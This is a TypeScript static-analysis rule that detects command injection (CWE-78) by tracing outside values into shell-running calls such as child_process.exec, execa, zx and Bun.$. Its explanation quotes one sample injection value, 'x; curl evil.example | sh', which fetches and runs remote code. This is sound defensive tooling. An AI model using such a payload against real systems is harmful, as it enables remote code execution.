import { calleeOf, isTaggedTemplate, stringValue } from '../../syntax/expressions.ts';
import type { SyntaxNode } from '../../syntax/syntax-node.ts';
import { fromOutside, type Sink, defineSinkRule } from '../sink-rule.ts';
import { isTainted, taintedHole, type Value } from '../../flow/value.ts';
import type { CallSite, SourceFile } from '../source-file.ts';

const shellCalls =
  /^child_process\.(exec|execSync)$|^shelljs(\.default)?\.exec$|^execa\.(execaCommand|execaCommandSync|command|commandSync)$|^ssh2\.Client#\.exec$|^node-cmd\.(run|runSync|get)$|^node-ssh\.NodeSSH#\.execCommand$/;
const fileCalls =
  /^child_process\.(spawn|spawnSync|execFile|execFileSync|fork)$|^execa(\.(execa|execaSync|execaNode|sync|node))?$|^cross-spawn(\.(spawn|sync))?$|^global\.Bun\.(spawn|spawnSync)$|^global\.Deno\.Command$/;
const shellTags = /^(bun|zx)\.\$$|^global\.(Bun\.)?\$$/;
const shellProgram = /(^|[\\/])(sh|bash|zsh|dash|ksh|cmd|cmd\.exe|powershell|powershell\.exe|pwsh)$/;

export const commandInjection = defineSinkRule({
  id: 'security/command-injection',
  title: '`{source}` becomes part of a shell command in `{sink}`',
  cwe: 'CWE-78',
  severity: 'critical',
  purpose: 'command',
  why: 'The shell reads the whole text: a value such as `x; curl evil.example | sh` runs as a command of its own, with the rights of this process.',
  instead: 'Pass the program and its arguments as a list, without a shell, and put `--` before values.',
  example: "execFile('git', ['clone', '--', url]);",
  accepts: (value) => fromOutside(value) || isParameterInCommand(value),
  *sinks(file) {
    for (const call of file.calls()) {
      if (shellCalls.test(call.name)) yield* sinkAt(call, 0);
      else if (fileCalls.test(call.name)) yield* fileSinks(file, call);
    }
    yield* rawPieces(file);
  },
});

/** A caller's value next to a written command word; a bare parameter is a wrapper whose callers decide. */
function isParameterInCommand(value: Value): boolean {
  return isTainted(value) && /[a-z]/i.test(value.shape.replaceAll(taintedHole, ''));
}

function* sinkAt(call: CallSite, index: number): Iterable<Sink> {
  const argument = call.arguments[index];
  if (argument !== undefined) yield { node: call.node, argument, name: call.name.replace(/^global\./, '') };
}

/** `sh`, or a constant or a choice of such names: `windows ? 'cmd.exe' : '/bin/sh'`. */
function startsShell(file: SourceFile, program: SyntaxNode | undefined): boolean {
  const node = program === undefined ? undefined : file.constantOf(program);
  if (node?.kind === 'ternary_expression')
    return ['consequence', 'alternative'].some((branch) => startsShell(file, node.field(branch)));
  return shellProgram.test(stringValue(node) ?? '');
}

/** `$`ls ${{ raw: text }}``: what is marked raw is not quoted. */
function* rawPieces(file: SourceFile): Iterable<Sink> {
  for (const call of file.nodes('call_expression')) {
    const callee = isTaggedTemplate(call) ? calleeOf(call) : undefined;
    if (callee === undefined || !shellTags.test(file.flow.names.nameOf(callee) ?? '')) continue;
    for (const piece of call.field('arguments')?.children ?? []) {
      const argument =
        piece.kind === 'template_substitution' ? file.option(piece.children[0], 'raw') : undefined;
      if (argument !== undefined) yield { node: call, argument, name: callee.text };
    }
  }
}

function* fileSinks(file: SourceFile, call: CallSite): Iterable<Sink> {
  const options = call.arguments.findLast((argument) => file.objectOf(argument) !== undefined);
  const shell = file.option(options, 'shell');
  const usesShell = shell !== undefined && shell.kind !== 'false' && shell.text !== 'undefined';
  for (const sink of sinkAt(call, 0)) yield { ...sink, ...(usesShell ? {} : { accepts: fromOutside }) };
  if (usesShell || startsShell(file, call.arguments[0])) yield* sinkAt(call, 1);
}
